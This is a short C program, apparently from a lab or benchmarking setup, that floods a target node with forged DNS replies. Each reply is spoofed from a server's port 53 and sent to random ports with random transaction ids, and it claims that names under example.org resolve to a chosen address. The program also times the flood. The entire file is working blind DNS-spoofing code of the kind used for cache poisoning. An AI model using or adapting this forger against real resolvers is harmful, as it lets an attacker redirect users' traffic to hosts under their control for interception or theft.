/* A blind forger: knows the server, the node and the questions, and not the port
 * or the id that a query left with.
 *
 *   forger SERVER NODE COUNT NAMES   sends COUNT replies from port 53 of SERVER to
 *                                    random ports of NODE, with random ids, for the
 *                                    names n0.example.org to n(NAMES-1).example.org
 *
 * Prints how long it took. Each says that the name has the address 203.0.113.66.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

#include "generator.h"

#define LOT 64

static size_t forged(uint8_t *to, long name)
{
	static const uint8_t head[] = { 0, 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0 };
	static const uint8_t tail[] = "\7example\3org\0\0\1\0\1\xc0\x0c\0\1\0\1\0\0\0\5\0\4\xcb\0\x71\x42";
	uint16_t id = number();
	int length = sprintf((char *)to + sizeof(head) + 1, "n%ld", name);

	memcpy(to, head, sizeof(head));
	memcpy(to, &id, 2);
	to[sizeof(head)] = length;
	memcpy(to + sizeof(head) + 1 + length, tail, sizeof(tail) - 1);
	return sizeof(head) + 1 + length + sizeof(tail) - 1;
}

int main(int argc, char **argv)
{
	static uint8_t bytes[LOT][128];
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(53) }, nodes[LOT];
	struct mmsghdr sends[LOT] = { 0 };
	struct iovec parts[LOT];
	struct timespec start, end;

	if (argc != 5)
		return 2;
	long count = atol(argv[3]), names = atol(argv[4]);
	int on = 1, fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)))
		fail("socket");
	inet_pton(AF_INET, argv[1], &server.sin_addr);
	if (bind(fd, (struct sockaddr *)&server, sizeof(server)))
		fail("bind");
	/* Nobody knows the seed. */
	if (getrandom(&state, sizeof(state), 0) != sizeof(state))
		fail("getrandom");
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (long sent = 0; sent < count;) {
		int lot = count - sent < LOT ? count - sent : LOT;
		for (int i = 0; i < lot; i++) {
			nodes[i] = server;
			inet_pton(AF_INET, argv[2], &nodes[i].sin_addr);
			nodes[i].sin_port = htons(1024 + number() % (65536 - 1024));
			parts[i] = (struct iovec){ bytes[i], forged(bytes[i], (sent + i) % names) };
			sends[i].msg_hdr = (struct msghdr){ .msg_name = &nodes[i], .msg_namelen = sizeof(nodes[i]),
				.msg_iov = &parts[i], .msg_iovlen = 1 };
		}
		/* ICMP errors of ports that nobody has come back here. */
		int got = sendmmsg(fd, sends, lot, 0);
		sent += got > 0 ? got : 0;
	}
	clock_gettime(CLOCK_MONOTONIC, &end);
	printf("%.2f\n", end.tv_sec - start.tv_sec + (end.tv_nsec - start.tv_nsec) / 1e9);
	return 0;
}
